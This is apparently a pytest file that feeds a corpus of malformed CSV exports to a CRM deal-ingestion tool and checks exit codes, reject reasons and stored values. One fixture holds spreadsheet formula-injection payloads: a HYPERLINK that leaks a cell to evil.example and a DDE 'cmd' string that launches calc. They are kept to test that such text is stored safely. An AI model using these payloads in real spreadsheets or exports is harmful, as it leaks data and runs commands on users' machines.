"""The bad-input corpus: each file in tests/bad_inputs/ and its expected outcome, in one table.

Every case loads `a_good.csv` (two good deals) and then the bad file, as one generic source over
`*.csv`. A file that fails exits 2 with a one-line error and leaves the warehouse as the good file
left it; a file that loads counts every row: read = loaded + rejected + excluded.
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from tests.adapter_fixtures import batches, ingest, query
from tests.conftest import GENERIC_CONFIG, write

CORPUS = Path(__file__).resolve().parent / "bad_inputs"
GOOD = """
id,stage,created,closed,value,rep
G1,Prospecting,2024-01-01,,100,Ann
G2,Won,2024-01-02,2024-02-01,200,Bob
"""
# What the good file alone leaves: 2 deals with one snapshot and one current_only event each.
GOOD_STATE = {
    "deals": 2,
    "deal_snapshots": 2,
    "deal_stage_events": 2,
    "stage_changes": 0,
    "rejected_rows": 0,
    "ingest_batches": 1,
}
TEN_MEGABYTES = 10 * 2**20


@dataclass(frozen=True)
class Outcome:
    """exit code; for a loaded file (loaded, rejected, excluded) and the reasons of its rejects;
    for a failed one a fragment of the error; `check` looks at what was loaded."""

    exit_code: int
    counts: tuple[int, int, int] | None = None
    reasons: list[tuple[int, str]] = field(default_factory=list)  # (line, reason fragment)
    error: str = ""
    check: Callable[[Path], None] | None = None
    warning: str = ""  # a fragment of a warning the load must log


def _stage_orders(folder: Path) -> None:
    assert query(
        folder,
        "select deal_id, stage, stage_order, status from deals "
        "where deal_id not like 'G%' order by 1",
    ) in (
        [("U1", "Qualifikation", None, "open"), ("U2", "Prospecting", 1, "open")],
        [("N1", "Demo", None, "open"), ("N2", "Demo", None, "open"), ("N3", "Proposal", 3, "open")],
    )


def _close_before_create_kept(folder: Path) -> None:
    # Loaded as exported; the marts leave it out of cycle statistics (close before create).
    assert query(
        folder,
        "select deal_id, status, created_at::date::varchar, closed_at::date::varchar "
        "from deals where deal_id like 'C%' order by 1",
    ) == [("C1", "won", "2024-03-01", "2024-02-01"), ("C2", "lost", "2024-01-01", "2024-02-01")]


def _formulas_stored_as_exported(folder: Path) -> None:
    # CRM text is stored exactly as exported (issue 14 item 8); spreadsheet writers neutralise.
    assert query(
        folder,
        "select deal_id, stage, owner, name, account from deals "
        "where deal_id not like 'G%' order by created_at",
    ) == [
        ("F1", "Prospecting", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
         "@SUM(1+1)", "+cmd|' /C calc'!A0"),
        ("F2", "Prospecting", "Ann Lee", "Acme - New", "Acme"),
        ("+SUM(1)", "=HYPERLINK(\"http://evil.example\")", "-Bob", "\ttab", "Acme"),
    ]  # fmt: skip


def _big_field_cut_in_rejects(folder: Path) -> None:
    raw = query(folder, "select raw_record from rejected_rows")[0][0]
    assert len(raw) < 3000 and json.loads(raw)["id"] == "B1"


def _currency_from_the_amount(folder: Path) -> None:
    # USD is the reporting currency and the config has no rates: the others get no amount_base.
    assert query(
        folder,
        "select deal_id, currency, amount, amount_base from deals where deal_id like 'J%' "
        "order by 1",
    ) == [
        ("J1", "JPY", 150_000_000.0, None),
        ("J2", "EUR", 1234.56, None),
        ("J3", "GBP", 99.5, None),
        ("J4", "USD", 100.0, 100.0),  # '$' with a dollar reporting currency: that dollar
        ("J5", "USD", 100.0, 100.0),
        ("J7", "CHF", 1000.0, None),
    ]


def _currency_column_and_amount_agree(folder: Path) -> None:
    assert query(
        folder,
        "select deal_id, currency, amount_base from deals where deal_id like 'K%' order by 1",
    ) == [("K2", "EUR", None), ("K3", "EUR", None), ("K4", "CAD", None), ("K6", "USD", 100.0)]


def _columns_of_rejects(expected: list[tuple[int, str]]) -> Callable[[Path], None]:
    def check(folder: Path) -> None:
        assert (
            query(
                folder,
                "select source_row, column_name from rejected_rows where batch_id = 2 order by 1",
            )
            == expected
        )

    return check


def _owners(expected: list[tuple[str, str]]) -> Callable[[Path], None]:
    def check(folder: Path) -> None:
        assert (
            query(folder, "select deal_id, owner from deals where deal_id not like 'G%' order by 1")
            == expected
        )

    return check


def _future_events_dropped(folder: Path) -> None:
    # The deals load without their future times; the file's snapshot is its latest real event.
    assert query(
        folder,
        "select deal_id, status, created_at::varchar, closed_at::varchar, "
        "expected_close_date::varchar from deals where deal_id like 'E%' order by 1",
    ) == [
        ("E1", "won", "2024-01-05 00:00:00", None, None),
        ("E2", "open", None, None, None),
        ("E3", "open", "2024-01-03 00:00:00", None, "2094-06-30"),  # expected: not an event
    ]
    assert query(folder, "select snapshot_at::varchar from ingest_batches where batch_id = 2") == [
        ("2024-01-05 00:00:00",)
    ]
    assert query(
        folder,
        "select source_row, deal_id, column_name, value, flag from flagged_values order by 1",
    ) == [
        (2, "E1", "closed_at", "2094-02-01 00:00:00", "event_in_future"),
        (3, "E2", "created_at", "2094-01-01 00:00:00", "event_in_future"),
    ]


def _temp_dir_empty(folder: Path) -> None:
    temp = folder / "w.tmp"
    assert not temp.exists() or not any(temp.iterdir())


CASES: dict[str, Outcome] = {
    "empty.csv": Outcome(2, error="the file is empty"),
    "header_only.csv": Outcome(2, error="has a header but no data rows"),
    "binary.csv": Outcome(2, error="not a text export (binary content)"),
    "truncated_last_line.csv": Outcome(
        0, (3, 1, 0), [(5, "unclosed quote: a value opens a quote")]
    ),
    "too_many_values.csv": Outcome(
        0, (1, 1, 0), [(3, "too many values: more than the 6 columns of the header")]
    ),
    "wrong_separator.csv": Outcome(2, error="the whole header was read as one column"),
    "mixed_separators.csv": Outcome(
        2,
        error="none of its 2 rows can be loaded (line 2: too few values: fewer than the 6 columns",
    ),
    "duplicate_ids.csv": Outcome(
        0, (2, 1, 0), [(2, "duplicate deal_id 'D1': line 4 has the same id and was kept")]
    ),
    "unknown_stage.csv": Outcome(
        0, (2, 0, 0), check=_stage_orders, warning="not in [pipeline] stages: 'Qualifikation' (1)"
    ),
    "stage_not_in_config.csv": Outcome(
        0, (3, 0, 0), check=_stage_orders, warning="not in [pipeline] stages: 'Demo' (2)"
    ),
    "created_after_closed.csv": Outcome(0, (2, 0, 0), check=_close_before_create_kept),
    "absurd_amounts.csv": Outcome(
        0,
        (1, 4, 0),
        [
            (2, "amount: -5 is not a plausible amount"),
            (3, "amount: 1e309 is not a plausible amount"),
            (4, "amount: NaN is not a plausible amount"),
            (5, "amount: 1e15 is not a plausible amount"),
        ],
    ),
    "dates_1900_2999.csv": Outcome(
        0,
        (1, 3, 0),
        [
            (2, "created_at: 1900-01-01 is outside 1980-2100"),
            (3, "closed_at: 2999-12-31 is outside 1980-2100"),
            (4, "closed_at: 2999-12-31 is outside 1980-2100"),  # an open deal's expected close
        ],
    ),
    "formula_strings.csv": Outcome(0, (3, 0, 0), check=_formulas_stored_as_exported),
    # Generated (too big to keep in the repository): one 10 MB cell in the owner column.
    "big_field.csv": Outcome(
        0,
        (1, 1, 0),
        [(2, f"owner: {TEN_MEGABYTES} characters, longer than any real value")],
        check=_big_field_cut_in_rejects,
    ),
    # Item 7: a currency code or symbol in the amount sets the deal's currency, or is rejected.
    "amount_currency_codes.csv": Outcome(
        0,
        (6, 1, 0),
        [(7, "amount: '¥ 5000' is written with ¥, which JPY and CNY both use")],
        check=_currency_from_the_amount,
    ),
    "amount_currency_disagrees.csv": Outcome(
        0,
        (4, 3, 0),
        [
            (2, "amount: 'EUR 100' is in EUR but the currency column says 'USD'"),
            (6, "amount: '£ 100' is in GBP but the currency column says 'EUR'"),
            (8, "amount: '$ 100' is written with $, which is not used for 'EUR'"),
        ],
        check=_currency_column_and_amount_agree,
    ),
    # Issue 14 items 2 and 3 (dates): non-finite dates are rejected values; event times after
    # the file was loaded do not load (nor set snapshot_at) and are flagged event_in_future.
    "dates_infinity.csv": Outcome(
        0,
        (1, 3, 0),
        [
            (2, "created_at: 'infinity' is not a finite date"),
            (3, "closed_at: '-infinity' is not a finite date"),
            (4, "closed_at: 'Infinity' is not a finite date"),  # an open deal's expected close
        ],
        check=_columns_of_rejects([(2, "created_at"), (3, "closed_at"), (4, "closed_at")]),
    ),
    "future_events.csv": Outcome(
        0,
        (3, 0, 0),
        check=_future_events_dropped,
        warning="2 event times after the file was loaded (first: line 2, closed_at",
    ),
    # Issue 14, items 4, 5, 6 and 9 (files): line endings, encodings, line numbers, headers.
    "crlf_with_one_lf_line.csv": Outcome(0, (2, 1, 0), [(4, "amount: cannot read 'x'")]),
    "utf8_one_bad_byte.csv": Outcome(
        0,
        (2, 1, 0),
        [(3, "not valid UTF-8")],
        check=_owners([("U1", "Zoë Müller"), ("U3", "José")]),
    ),
    "cp1252_undefined_byte.csv": Outcome(2, error="byte 0x81 at offset 104", check=_temp_dir_empty),
    "utf16_without_bom.csv": Outcome(
        0, (2, 0, 0), check=_owners([("V1", "Zoë Müller"), ("V2", "Łukasz")])
    ),
    "gbk.csv": Outcome(2, error="at offset 65"),
    "multiline_and_blank_lines.csv": Outcome(
        0,
        (2, 2, 0),
        [(5, "amount: cannot read 'abc'"), (9, "created_at: cannot read 'not-a-date'")],
        check=_owners([("M1", "Ann\nLee"), ("M3", "Cy\n\nDee")]),
    ),
    "headers_repeated.csv": Outcome(0, (1, 0, 0), check=_owners([("R1", "Ann")])),
    "headers_differ_in_case.csv": Outcome(0, (1, 0, 0), check=_owners([("C1", "Ann")])),
    "rowid_and_row_columns.csv": Outcome(0, (1, 1, 0), [(3, "amount: cannot read 'abc'")]),
    # Generated: a header line of 100 KB (one long column name) before the mapped ones.
    "long_header.csv": Outcome(0, (1, 0, 0), check=_owners([("H1", "Ann")])),
}


def _write_big_field(path: Path) -> None:
    with path.open("w", encoding="utf-8") as fh:
        fh.write("id,stage,created,closed,value,rep\n")
        fh.write(f"B1,Prospecting,2024-01-01,,100,{'x' * TEN_MEGABYTES}\n")
        fh.write("B2,Prospecting,2024-01-02,,100,Ann\n")


def _write_long_header(path: Path) -> None:
    with path.open("w", encoding="utf-8") as fh:
        fh.write(f"{'n' * 100_000},id,stage,created,closed,value,rep\n")
        fh.write("x,H1,Prospecting,2024-01-01,,100,Ann\n")


GENERATED = {"big_field.csv": _write_big_field, "long_header.csv": _write_long_header}


def test_every_corpus_file_has_an_outcome() -> None:
    on_disk = {p.name for p in CORPUS.iterdir()}
    assert on_disk == set(CASES) - set(GENERATED)


def _state(folder: Path) -> dict[str, int]:
    return {t: query(folder, f"select count(*) from {t}")[0][0] for t in GOOD_STATE}


@pytest.mark.slow
@pytest.mark.parametrize("name", sorted(CASES))
def test_bad_input(
    name: str,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    outcome = CASES[name]
    write(tmp_path / "p.toml", GENERIC_CONFIG.format(history="").replace("deals.csv", "*.csv"))
    write(tmp_path / "a_good.csv", GOOD)
    bad = tmp_path / f"b_{name}"
    if name in GENERATED:
        GENERATED[name](bad)
    else:
        shutil.copyfile(CORPUS / name, bad)

    assert ingest(tmp_path) == outcome.exit_code
    if outcome.exit_code:
        error = capsys.readouterr().err.strip().splitlines()[-1]
        assert bad.name in error and outcome.error in error
        assert _state(tmp_path) == GOOD_STATE
        if outcome.check:
            outcome.check(tmp_path)
        return
    good, loaded = batches(tmp_path)
    assert good == ("a_good.csv", "deals", 2, 2, 0, 0)
    assert loaded[0] == bad.name and tuple(loaded[3:]) == outcome.counts
    reasons = query(
        tmp_path,
        "select source_row, reason from rejected_rows where batch_id = 2 order by source_row",
    )
    assert len(reasons) == len(outcome.reasons)
    for (line, reason), (expected_line, fragment) in zip(reasons, outcome.reasons, strict=True):
        assert line == expected_line and fragment in reason
    if outcome.check:
        outcome.check(tmp_path)
    assert outcome.warning in caplog.text
